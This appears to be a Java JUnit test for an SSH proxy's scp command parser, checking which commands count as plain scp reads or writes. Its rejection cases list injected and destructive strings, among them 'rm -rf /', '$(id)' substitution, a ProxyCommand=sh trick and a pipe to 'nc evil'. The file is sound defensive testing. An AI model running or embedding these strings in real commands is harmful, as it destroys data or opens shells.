package io.corral.sshproxy.access;

import static org.assertj.core.api.Assertions.assertThat;

import io.corral.sshproxy.access.ScpCommand.Direction;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ScpCommandTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|',
            value = { "scp -f /home/vcap/logs/app.log|READ", "scp -f -- -odd-name|READ",
                    "scp -r -f /home/vcap/app|READ", "scp -rpf app|READ", "scp -v -d -f 'with space.txt'|READ",
                    "/usr/bin/scp -f x|READ", "scp -f '*.log'|READ", "scp -t /home/vcap/app/|WRITE",
                    "scp -r -t .|WRITE", "scp -pt -- dir|WRITE", "scp -d -t \"quoted dir\"|WRITE" })
    void plainScpCommandsAreRecognised(String command, Direction direction) {
        assertThat(ScpCommand.direction(command)).contains(direction);
    }

    @ParameterizedTest
    @ValueSource(strings = { "scp -f x; rm -rf /", "scp -f x && sh", "scp -f x | nc evil 1", "scp -f `id`",
            "scp -f $(id)", "scp -f $HOME/x", "scp -f x > /tmp/y", "scp -t x\nrm -rf /", "scp -f -t x", "scp x y",
            "scp -S /bin/sh -f x", "scp -o ProxyCommand=sh -f x", "scp -f 'unterminated", "notscp -f x", "scpx -f x",
            "ls -la", "", "scp -f \"$(id)\"", "scp -f x\\;id", "scp -f x&", "scp -f (x)" })
    void anythingElseIsAnOrdinaryCommand(String command) {
        assertThat(ScpCommand.direction(command)).isEmpty();
    }

}
